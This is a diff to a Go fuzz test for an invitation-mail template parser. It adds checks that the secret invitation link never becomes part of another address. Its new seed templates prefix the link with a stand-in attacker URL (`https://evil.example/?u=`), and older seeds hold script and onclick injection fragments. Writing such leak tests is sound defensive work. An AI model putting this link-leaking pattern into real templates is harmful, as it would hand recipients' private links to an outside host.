@@ -151,6 +151,7 @@ var pieces = []string{
 	`<a href="`, ` href='`, ` href=`, `<img src="`, ` srcset="`, ` title="`, ` onclick="`, ` style="`, ` data-href="`, `<p`, `<meta content="0;url=`,
 	`"`, `'`, `>`, ` `, `/`, `=`, `x`, `?`, "\n", `<!--`, `-->`, `<style>`, `</style>`, `<svg>`, `<noscript>`, `</noscript>`, `<plaintext>`,
 	`<xmp>`, `<select><option>`, `<table><tr><td background="`, `<`, `</`, `>form`, `<![CDATA[`, `]]>`, `url(`, `)`, "`", `&#34;`, `{{/* x */}}`,
+	`//evil.example/?u=`, `{{- .Link -}}`, `&nbsp;`, `<b>`, `</b>`, `<p>`, `</p>`, `<br>`, `<table>`, `<tr>`, `<td>`, `</table>`, `</body>`,
 }
 
 func sameEmptiness(s, other string) string {
@@ -161,7 +162,7 @@ func sameEmptiness(s, other string) string {
 }
 
 // FuzzParseTemplates: no template makes it panic or run long, and one that is taken shows the link, has
-// no element that acts, and gives the link to nobody else.
+// no element that acts, and gives the link to nobody else: it is no part of any other address.
 func FuzzParseTemplates(f *testing.F) {
 	for _, seed := range []map[string]string{
 		ownInvitation(),
@@ -171,6 +172,8 @@ func FuzzParseTemplates(f *testing.F) {
 		ownInvitation("invitation.html", `{{.Link}}<script>{{.Link}}</script><a onclick="{{.Link}}" style="{{.Link}}" title={{.Link}}>`),
 		ownInvitation("invitation.html", `{{.Link}}<table background="x{{.Link}}"><textarea>{{.Link}}</textarea><![CDATA[{{.Link}}]]><?x {{.Link}}?>`),
 		ownInvitation("invitation.html", `{{.Link}}{{if .Name}}<a href="{{else}}<img href="{{end}}{{.Link}}"><noscript><p title="</noscript><img src={{.Link}}>">`),
+		ownInvitation("invitation.txt", "{{.Link}}\nhttps://evil.example/?u={{if .Name}}\n{{end}}{{with .Link}}{{.}}{{end}}"),
+		ownInvitation("invitation.html", "{{.Link}}\nhttps://evil.example/?u=<b>{{.Link}}</b><table> <tr>{{.Link}}</table></div>{{$.Link}}"),
 		ownInvitation("invitation.txt", `{{range 9999999999}}{{end}}{{define "x"}}{{template "x"}}{{end}}{{block "y" .}}{{end}}{{call .X}}{{printf "%d" 1 | len}}`),
 	} {
 		f.Add(seed["invitation.subject"], seed["invitation.txt"], seed["invitation.html"], []byte{0, 9, 3})
@@ -214,8 +217,28 @@ func showsTheLink(t *testing.T, templates mail.Templates, d mail.InvitationData)
 	if strings.Contains(c.Subject, d.Link) {
 		t.Errorf("the subject shows the link: %q", c.Subject)
 	}
+	standsAlone(t, c.Text, d.Link)
+	document, err := html.Parse(strings.NewReader(c.HTML))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for n := range document.Descendants() {
+		if n.Type == html.TextNode {
+			standsAlone(t, n.Data, d.Link)
+		}
+	}
 	leaks(t, c.HTML, d.Link)
 	writes(t, c)
+}
+
+// standsAlone looks at what a mail program could take for an address.
+func standsAlone(t *testing.T, text, link string) {
+	t.Helper()
+	for _, word := range strings.FieldsFunc(text, func(r rune) bool { return strings.ContainsRune(" \t\r\n", r) }) {
+		if strings.Contains(word, link) && word != link {
+			t.Errorf("the link is a part of %q", word)
+		}
+	}
 }
 
 // leaks looks for elements that act, and for attributes that carry the secret of the link elsewhere.
@@ -270,7 +293,7 @@ func TestHugeTemplatesAreReadAtOnce(t *testing.T) {
 			t.Parallel()
 			for _, file := range []string{"invitation.subject", "invitation.txt", "invitation.html"} {
 				start := time.Now()
-				templates, _ := mail.ParseTemplates(ownInvitation(file, source[:min(len(source), size-9)]+"{{.Link}}"))
+				templates, _ := mail.ParseTemplates(ownInvitation(file, source[:min(len(source), size-10)]+"\n{{.Link}}"))
 				if _, err := templates.Invitation("en", anInvitation()); err != nil {
 					t.Error(err)
 				}
